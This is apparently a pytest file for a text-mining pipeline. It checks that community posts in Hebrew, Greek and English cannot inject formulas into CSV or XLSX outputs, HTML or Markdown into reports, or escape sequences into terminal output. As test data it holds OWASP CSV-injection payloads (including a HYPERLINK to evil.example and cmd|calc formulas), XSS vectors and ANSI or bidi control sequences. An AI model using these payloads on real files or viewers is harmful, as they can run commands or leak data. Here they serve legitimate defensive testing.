"""Outputs safe to open. Community posts are untrusted: none may run a formula in a spreadsheet,
add HTML, a link or an image to a rendered report, or drive a terminal; and a post with control
characters does not stop the run.

A small real-looking corpus (Hebrew, Greek and English complaints, each carrying a formula at its
start, control characters and an HTML or Markdown payload) goes through the whole pipeline.
"""
from __future__ import annotations

import csv
import dataclasses
import re
import zipfile
from datetime import datetime
from html.parser import HTMLParser

import openpyxl
import pandas as pd
import pytest
from markdown_it import MarkdownIt

import mining
from mining.cli import main
from mining.config import Config
from mining.report.html import write_html
from mining.report.markdown import escape_markdown, write_markdown
from mining.report.model import report_data
from mining.report.safe import clean_text
from mining.report.tables import read_csv, write_csv, write_xlsx

COMPLAINTS = [
    ("he", "קוד האימות לא מגיע ב-SMS, לא מצליח להתחבר לאפליקציה"),
    ("he", "שוב לא מגיע לי קוד כניסה, ניסיתי עשר פעמים להתחבר"),
    ("he", "המשלוח הגיע באיחור של שעתיים בלי שום עדכון מהשליח"),
    ("he", "השליח שוב איחר, חלון של 18-19 והגיע ב-21 בלי להודיע"),
    ("he", "האפליקציה קורסת מיד כשאני פותח אותה מאז העדכון"),
    ("el", "Δεν έρχεται ο κωδικός SMS και δεν μπορώ να συνδεθώ στην εφαρμογή"),
    ("el", "Ο κωδικός επιβεβαίωσης δεν ήρθε ποτέ, τρίτη φορά που προσπαθώ"),
    ("el", "Η παραγγελία άργησε δύο ώρες χωρίς καμία ενημέρωση από τον κούριερ"),
    ("el", "Ο κούριερ ήρθε πάλι εκτός ώρας παράδοσης και δεν ειδοποίησε"),
    ("el", "Η εφαρμογή κρασάρει μόλις την ανοίγω μετά την ενημέρωση"),
    ("en", "The SMS login code never arrives, I can't sign in to the app"),
    ("en", "Still no verification code, tried ten times to log in"),
    ("en", "My delivery was two hours late with no update from the courier"),
    ("en", "Courier missed the delivery window again and never called"),
    ("en", "The app crashes as soon as I open it since the update"),
]
# OWASP CSV injection payloads, each at the start of a post.
FORMULAS = ['=HYPERLINK("https://evil.example/?leak","Click for refund")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=2+2"]
# What a Markdown or HTML viewer would run or follow if it were written as it is.
VECTORS = ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[click](javascript:alert(1))",
           "![pixel](https://evil.example/p.png)", "<https://evil.example/autolink>",
           "<javascript:alert(1)>", '<a href="javascript:alert(1)">refund</a>',
           "<svg onload=alert(1)>", "<iframe src=https://evil.example></iframe>",
           '<div onmouseover="alert(1)">hover</div>', "&#60;script&#62;alert(1)&#60;/script&#62;"]
CONTROLS = ["\x08", "\x0b", "\x0c", "\x1b[31m", "\x00"]
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")
TABLES = ["challenges", "topics", "content_feed", "spikes", "community_health", "community_weekly",
          "helpful_members", "kpis"]


@pytest.fixture(scope="module")
def hostile_run(tmp_path_factory):
    folder = tmp_path_factory.mktemp("hostile")
    rows = []
    for k in range(3 * len(COMPLAINTS)):
        text = COMPLAINTS[k % len(COMPLAINTS)][1]
        rows.append({"id": f"h{k}", "author": f"member{k % 11}", "date": f"2026-06-{1 + k % 28:02d} 10:00",
                     "text": f"{FORMULAS[k % len(FORMULAS)]} {text}{CONTROLS[k % len(CONTROLS)]} "
                             f"{VECTORS[k % len(VECTORS)]}"})
    pd.DataFrame(rows).to_csv(folder / "posts.csv", index=False, quoting=csv.QUOTE_ALL)
    # min_confidence 0.3: the payloads around each complaint lower the head's confidence (median
    # 0.55 with the heads trained on the 1,735 dev posts, 23 of 45 posts at 0.5 or more, no
    # challenge); what is tested here is what the writers make of the text, so they cluster.
    config = (Config().updated("topics", min_topic_size=3)
              .updated("challenges", min_challenge_size=3, min_question_size=3, min_confidence=0.3)
              .updated("embedding", cache_dir=str(folder / "cache")))
    return mining.run([str(folder / "posts.csv")], folder / "run", config)


def test_the_run_finishes_and_posts_parquet_keeps_the_original_text(hostile_run):
    assert hostile_run.manifest["status"] == "ok"
    assert len(hostile_run.challenges.challenges) and len(hostile_run.topics)
    texts = pd.read_parquet(hostile_run.out / "posts.parquet")["text"]
    for control in CONTROLS:
        assert texts.str.contains(control, regex=False).any(), repr(control)


def _cells(path):
    with open(path, newline="", encoding="utf-8-sig") as f:
        return [cell for row in csv.reader(f) for cell in row]


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_csv_cells_are_text_not_formulas(hostile_run):
    neutralized = []
    for name in TABLES:
        for cell in _cells(hostile_run.out / f"{name}.csv"):
            assert not CONTROL.search(cell), (name, cell)
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n"):
                assert _is_number(cell), (name, cell)  # a number, such as a growth of -0.5
            neutralized += [cell] if cell.startswith("'") else []
    assert any(c.startswith("'=") for c in neutralized)  # the payloads reached the tables


def test_csv_files_open_in_excel_as_utf8(hostile_run):
    # review 9 R9-21: without a byte order mark, Excel on Windows reads a double-clicked CSV in
    # the system's code page (cp1255, cp1253), and every Hebrew and Greek cell is mojibake
    for name in TABLES:
        data = (hostile_run.out / f"{name}.csv").read_bytes()
        assert data.startswith(b"\xef\xbb\xbf"), name
        assert data[3:].decode("utf-8").split(",")[0].isidentifier(), name  # the first column's name
    labels = "".join(_cells(hostile_run.out / "topics.csv"))
    assert re.search("[\u05d0-\u05ea]", labels) and re.search("[\u0370-\u03ff]", labels)


def test_reading_a_run_back_gives_the_texts_and_numbers_it_wrote(hostile_run):
    again = mining.load_run(hostile_run.out)
    for column in ("label", "quotes_he", "quotes_el", "quotes_en"):
        written = hostile_run.topics[column].fillna("").map(clean_text)  # less control characters
        assert again.topics[column].fillna("").tolist() == written.tolist()
    numbers = hostile_run.challenges.challenges.select_dtypes("number").columns
    assert len(numbers) and all(pd.api.types.is_numeric_dtype(again.challenges.challenges[c])
                                for c in numbers)


def test_xlsx_cells_are_strings_never_formulas(hostile_run):
    path = hostile_run.out / "challenges.xlsx"
    with zipfile.ZipFile(path) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not any(b"<f>" in book.read(n) or b"<f " in book.read(n) for n in sheets)
    workbook = openpyxl.load_workbook(path)
    starts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not CONTROL.search(cell.value), (sheet.title, cell.value)
                    if cell.value[:1] in ("=", "+", "-", "@"):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                        starts.append(cell.value[0])
    assert "=" in starts  # the payloads reached the workbook, as text without an apostrophe


@pytest.mark.parametrize("value, written", [
    ('=HYPERLINK("https://evil.example","x")', "'=HYPERLINK(\"https://evil.example\",\"x\")"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)", "'@SUM(1+1)"),
    ("'=1+1", "''=1+1"),  # an apostrophe already there is kept, and read back as it was
    ("בקשה: -5% הנחה", "בקשה: -5% הנחה"),
    ("σημείωση\x1b[2J\x00 εδώ", "σημείωση[2J εδώ"),
])
def test_one_text_cell(tmp_path, value, written):
    table = pd.DataFrame({"label": [value], "growth": [-0.5], "n_posts": pd.array([3], dtype="Int64")})
    write_csv(table, tmp_path / "t.csv")
    assert _cells(tmp_path / "t.csv") == ["label", "growth", "n_posts", written, "-0.5", "3"]
    back = read_csv(tmp_path / "t.csv")
    assert back["label"].iloc[0] == written.removeprefix("'") and back["growth"].iloc[0] == -0.5
    write_xlsx({"t": table}, tmp_path / "t.xlsx")
    cells = next(openpyxl.load_workbook(tmp_path / "t.xlsx")["t"].iter_rows(min_row=2))
    assert [c.value for c in cells] == [written.removeprefix("'"), -0.5, 3]
    assert cells[0].data_type == "s" and cells[1].data_type == "n"


def test_workbook_times_are_the_reports_and_say_their_zone(tmp_path):
    """Review 12 R12-13: a manager sorting the sheet by time compares it with the report, which
    shows the community's local time; the workbook had UTC with nothing saying so."""
    seen = pd.Series(pd.to_datetime(["2026-10-16 05:01:00+00:00"]))
    write_xlsx({"challenges": pd.DataFrame({"first_seen": seen})}, tmp_path / "t.xlsx",
               "Asia/Jerusalem")
    header, row = openpyxl.load_workbook(tmp_path / "t.xlsx")["challenges"].iter_rows(values_only=True)
    assert header == ("first_seen (Asia/Jerusalem time)",)
    assert row[0] == datetime(2026, 10, 16, 8, 1)


class _Elements(HTMLParser):
    """The tags, attributes and text of an HTML document."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.text: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text.append(data)


MARKDOWN = MarkdownIt("commonmark").enable(["table", "strikethrough"])
MARKDOWN_TAGS = {"h1", "h2", "h3", "p", "ul", "li", "strong", "em", "blockquote", "code", "table",
                 "thead", "tbody", "tr", "th", "td", "img"}
CHARTS = {"volume.png", "challenge_trends.png", "topic_sizes.png", "topic_map.png"}


def _assert_no_markdown_injection(markdown: str) -> _Elements:
    found = _Elements(MARKDOWN.render(markdown))
    for tag, attrs in found.tags:
        assert tag in MARKDOWN_TAGS, (tag, attrs)
        assert tag != "img" or attrs.get("src") in CHARTS, attrs
        assert set(attrs) <= {"src", "alt"}, (tag, attrs)
    return found


@pytest.mark.parametrize("vector", VECTORS + [f"{f} {v}" for f in FORMULAS for v in VECTORS[:2]]
                         + ["# heading", "- item", "1. item", "===", "> quote", "`code`", "a | b",
                            "**bold** _em_ ~~gone~~", "[ref]: javascript:alert(1)",
                            "0.933", "-0.929", "+12%", "1,604", "snake_case __dunder__ _em_ a_b_"])
@pytest.mark.parametrize("place", ["{}", "> {}", "- {}", "| h |\n|---|\n| {} |"])
def test_escaped_markdown_shows_the_text_as_written_and_nothing_else(vector, place):
    found = _assert_no_markdown_injection(place.format(escape_markdown(vector)))
    shown = "".join(found.text).replace("\n", "").removeprefix("h" if "|" in place else "")
    assert shown == " ".join(vector.split())


def _vector(i: int) -> str:
    return VECTORS[i % len(VECTORS)]


@pytest.fixture(scope="module")
def payloads(hostile_run):
    """The run's tables with every text a post can fill holding a vector (labels, keywords,
    quotes, phrasings, channel names, the authors quoted, file names in notes), each vector at
    the start of some cell."""
    fields = re.compile(r"^(label|keywords|quotes|phrasings)(_..)?$|^by_channel$")

    def fill(table: pd.DataFrame) -> pd.DataFrame:
        for j, column in enumerate(c for c in table.columns if fields.match(c)):
            values = [_vector(i + j) for i in range(len(table))]
            if column.startswith(("quotes", "phrasings")):  # several per cell, one a line
                values = [f"{v}\n{_vector(i + j + 1)}" for i, v in enumerate(values)]
            table = table.assign(**{column: values})
        return table

    posts = hostile_run.posts.assign(author=[_vector(i) for i in range(len(hostile_run.posts))])
    found = dataclasses.replace(
        hostile_run.challenges, challenges=fill(hostile_run.challenges.challenges),
        content_feed=fill(hostile_run.challenges.content_feed),
        notes={f"threads_{i}": f"no reply structure in {v}" for i, v in enumerate(VECTORS)})
    return posts, fill(hostile_run.topics), found


def test_report_md_adds_no_html_link_or_image(hostile_run, payloads, tmp_path):
    _assert_no_markdown_injection((hostile_run.out / "report.md").read_text(encoding="utf-8"))
    posts, topics, found = payloads
    write_markdown(report_data(posts, topics, found, hostile_run.manifest), tmp_path / "report.md")
    text = "".join(_assert_no_markdown_injection((tmp_path / "report.md").read_text(encoding="utf-8")).text)
    assert all(v in text for v in VECTORS)  # shown as written


def _assert_no_html_injection(html: str) -> _Elements:
    found = _Elements(html)
    scripts = [attrs for tag, attrs in found.tags if tag == "script"]
    # only the explorer's own: its data island (escaped JSON) and its code
    assert scripts in ([], [{"type": "application/json"}, {}]), scripts
    for tag, attrs in found.tags:
        assert tag not in {"iframe", "svg", "object", "embed"}, (tag, attrs)
        assert not any(a.startswith("on") for a in attrs), (tag, attrs)
        assert tag != "img" or attrs["src"].startswith("data:image/png;base64,"), attrs
        assert tag != "a" or attrs["href"].startswith("#"), attrs
    return found


def test_report_html_adds_no_html_link_or_image(hostile_run, payloads, tmp_path):
    _assert_no_html_injection((hostile_run.out / "report.html").read_text(encoding="utf-8"))
    posts, topics, found = payloads
    write_html(report_data(posts, topics, found, hostile_run.manifest), tmp_path / "report.html")
    text = "".join(_assert_no_html_injection((tmp_path / "report.html").read_text(encoding="utf-8")).text)
    assert all(v in text for v in VECTORS)  # shown as written


def test_terminal_lines_show_control_characters_escaped(tmp_path, capsys):
    """File names in an export (a folder, a zip) are untrusted too: an error naming one, or an
    ingest line, must not carry an escape sequence to the terminal."""
    name = "הודעות\x1b]0;pwned\x07\x1b[2J.csv"
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / name).write_text("", encoding="utf-8")
    assert main(["run", str(tmp_path / "in" / name), "--out", str(tmp_path / "o")]) == 2
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\x07" not in err
    assert "הודעות\\x1b]0;pwned\\x07\\x1b[2J.csv" in err and "E102" in err
    (tmp_path / "in" / name).write_text("text\nהמשלוח הגיע באיחור של שעתיים\n", encoding="utf-8")
    assert main(["ingest", str(tmp_path / "in"), "--out", str(tmp_path / "posts.parquet")]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "הודעות\\x1b]0;pwned\\x07\\x1b[2J.csv\ttable" in out


def test_run_log_and_reports_carry_no_control_characters_from_file_or_column_names(tmp_path):
    """A file set aside is named in run.log and in the reports' "Inputs set aside": its name and
    its column names (in the error) are untrusted."""
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "evil\x1b[31mname=1+1.csv").write_text(
        '"\x1b[2J\x1b]0;pwned\x07colA","col\nB"\n1,2\n', encoding="utf-8")
    (folder / "good.csv").write_text("text\nהמשלוח הגיע באיחור של שעתיים\n"
                                     "Η παραγγελία ήρθε χωρίς το γάλα\n", encoding="utf-8")
    assert main(["run", str(folder), "--out", str(tmp_path / "o"), "--quiet"]) == 4
    log = (tmp_path / "o" / "run.log").read_text(encoding="utf-8")
    assert "set aside evil\\x1b[31mname=1+1.csv: " in log and "\\x1b]0;pwned\\x07colA, col\\nB" in log
    for name in ("run.log", "report.md", "report.html"):
        written = (tmp_path / "o" / name).read_text(encoding="utf-8")
        assert not {"\x1b", "\x07"} & set(written), name
    assert "evil\\[31mname=1+1.csv" in (tmp_path / "o" / "report.md").read_text(encoding="utf-8")


def test_the_workbook_names_challenges_as_the_report_does(hostile_run):
    """Review 10 (R10-20): the report says C-0004 and the workbook's sheets said 4, so a filter
    for the report's id found nothing; the CSVs keep the number for programs."""
    sheet = pd.read_excel(hostile_run.out / "challenges.xlsx", sheet_name="challenges")
    numbers = hostile_run.challenges.challenges["challenge_id"]
    assert sheet["challenge_id"].tolist() == [f"C-{n:04d}" for n in numbers]
    assert pd.read_csv(hostile_run.out / "challenges.csv")["challenge_id"].tolist() == numbers.tolist()


def test_bidirectional_overrides_neither_print_nor_reach_the_writers():
    """Review 12 (R12-10): a file named with U+202E printed reversed on the terminal and in
    report.md; a post "\u202egnp.exe" reads as "exe.png" wherever it is shown."""
    from mining.errors import printable

    assert printable("\u202ereport_txt.csv") == "\\u202ereport_txt.csv"
    assert printable("Dana\u2067Levi\u2069") == "Dana\\u2067Levi\\u2069"
    assert clean_text("see \u202egnp.exe and \u202atext\u202c") == "see gnp.exe and text"


def test_each_quote_of_an_alert_is_isolated_in_the_html_report():
    """Review 12, R12-12: three Hebrew quotes in an English alert ran together, their quote marks
    scattered by the bidi algorithm. Each quote, and each label in parentheses, is a ``<bdi>`` of
    its own, its marks outside it, and the rest is escaped as any text of the page."""
    from pathlib import Path

    import mining.report
    from mining.report.render import environment

    line = ("A new problem may be starting (למחבלים): 12 new posts by 10 members: "
            "\u201cעונש מוות למחבלים!\u201d; \u201c<b>נמאס</b> \u202edir\u201d.")
    shown = environment("html").from_string("{{ a|isolated }}").render(a=line)
    assert shown == ("A new problem may be starting (<bdi>למחבלים</bdi>): 12 new posts by 10 "
                     "members: \u201c<bdi>עונש מוות למחבלים!</bdi>\u201d; "
                     "\u201c<bdi>&lt;b&gt;נמאס&lt;/b&gt; dir</bdi>\u201d.")
    template = (Path(mining.report.__file__).parent / "templates" / "report.html").read_text(
        encoding="utf-8")
    assert "{{ a|isolated }}" in template and "{{ n|isolated }}" in template  # alerts, notes
